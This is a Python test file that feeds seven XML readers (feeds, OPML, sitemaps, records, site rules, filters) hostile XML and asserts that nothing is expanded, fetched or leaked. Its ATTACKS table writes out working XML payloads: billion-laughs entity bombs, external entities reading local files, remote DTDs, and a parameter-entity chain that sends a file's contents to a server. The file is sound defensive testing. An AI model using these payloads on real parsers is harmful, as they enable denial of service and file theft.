"""XML made to hurt, thrown at everything here that reads XML (HOSTILE 13): nothing is expanded, nothing is loaded.

Feeds, lists of feeds, sitemaps, TrendFinder's records, rules of sites and declared filters each have places where a
text stands; there stands an entity that would be a billion words, a file of this machine, or an answer of a server.
"""

from __future__ import annotations

import tracemalloc
from collections.abc import Callable
from pathlib import Path

import pytest

from tests.fetch.server import Server, reply
from tidings.errors import TidingsError
from tidings.sites import formats
from tidings.sources import read_chain, read_feed, read_opml, read_sitemap
from tidings_portal.stories.trends.formats import read_xml

READERS: dict[str, Callable[[str], object]] = {
    "RSS": read_feed,
    "Atom": read_feed,
    "OPML": read_opml,
    "sitemap": read_sitemap,
    "records": lambda text: list(read_xml([text.encode()])),
    "rules": lambda text: formats.read(text, "a.example"),
    "filters": read_chain,
}
#: A document for each, in which `#` is a text.
DOCUMENTS = {
    "RSS": """<rss version="2.0"><channel><title>#</title><item><title>#</title><link>http://a.example/1</link>
        <description>#</description></item></channel></rss>""",
    "Atom": """<feed xmlns="http://www.w3.org/2005/Atom"><title>#</title><entry><title>#</title><id>1</id>
        <link href="http://a.example/1"/><content type="html">#</content></entry></feed>""",
    "OPML": """<opml version="2.0"><head><title>#</title></head>
        <body><outline text="#" title="#" xmlUrl="http://a.example/f"/></body></opml>""",
    "sitemap": """<urlset xmlns="http://www.sitemaps.org/schemas/sitemap/0.9"><url><loc>http://a.example/#</loc>
        <lastmod>#</lastmod></url></urlset>""",
    "records": "<research><date>2001</date><title>#</title><abstract># #</abstract></research>",
    "rules": """<site name="#"><template name="#"><main tag="div" class="#"/></template></site>""",
    "filters": """<filters><filter name="words" minimum="4"/><filter name="address" reject="#"/></filters>""",
}

_LEVELS = "".join(f'<!ENTITY l{at} "{f"&l{at - 1};" * 10}">' for at in range(1, 10))
#: What stands before a document; {server} and {file} are filled in.
ATTACKS = {
    "billion laughs": f'<!DOCTYPE r [<!ENTITY l0 "ha">{_LEVELS}<!ENTITY x "&l9;">]>',
    "one large entity": f'<!DOCTYPE r [<!ENTITY l "{"ha" * 20_000}"><!ENTITY x "{"&l;" * 5_000}">]>',
    "a file": '<!DOCTYPE r [<!ENTITY x SYSTEM "{file}">]>',
    "an address": '<!DOCTYPE r [<!ENTITY x SYSTEM "{server}/entity">]>',
    "a public name": '<!DOCTYPE r [<!ENTITY x PUBLIC "-//X//Y" "{server}/public">]>',
    "a parameter": '<!DOCTYPE r [<!ENTITY % p SYSTEM "{server}/x.dtd"> %p;]>',
    "a file by a parameter": """<!DOCTYPE r [<!ENTITY % f SYSTEM "{file}">
        <!ENTITY % a "<!ENTITY x SYSTEM '{server}/?%f;'>"> %a;]>""",
    "a remote document type": '<!DOCTYPE r SYSTEM "{server}/r.dtd">',
    "both": '<!DOCTYPE r PUBLIC "-//X//Y" "{server}/r.dtd" [<!ENTITY x SYSTEM "{file}">]>',
    "a style sheet": '<?xml-stylesheet type="text/xsl" href="{server}/x.xsl"?>',
}
INNER = "what only this machine knows"


@pytest.mark.parametrize("attack", ATTACKS)
@pytest.mark.parametrize("kind", READERS)
def test_nothing_is_expanded_and_nothing_is_loaded(kind: str, attack: str, tmp_path: Path) -> None:
    inner = tmp_path / "inner.txt"
    inner.write_text(INNER, encoding="utf-8")
    with Server({"*": reply(f'<!ENTITY x "{INNER}">'.encode())}) as server:
        here = f"http://127.0.0.1:{server.port}"
        before = ATTACKS[attack].replace("{server}", here).replace("{file}", inner.as_uri())
        text = f"<?xml version='1.0'?>{before}{DOCUMENTS[kind].replace('#', '&x;')}"
        tracemalloc.start()
        try:
            told = repr(READERS[kind](text))
        except TidingsError as error:
            told = str(error)
        finally:
            peak = tracemalloc.get_traced_memory()[1]
            tracemalloc.stop()
    assert server.connections == 0
    assert INNER not in told
    assert "haha" not in told
    assert peak < 16 * 1024 * 1024


@pytest.mark.parametrize("kind", READERS)
def test_the_same_documents_are_read_where_nothing_is_wrong(kind: str) -> None:
    """Else the test above would pass for readers that read nothing at all."""
    assert "seals" in repr(READERS[kind](f"<?xml version='1.0'?>{DOCUMENTS[kind].replace('#', 'seals')}"))
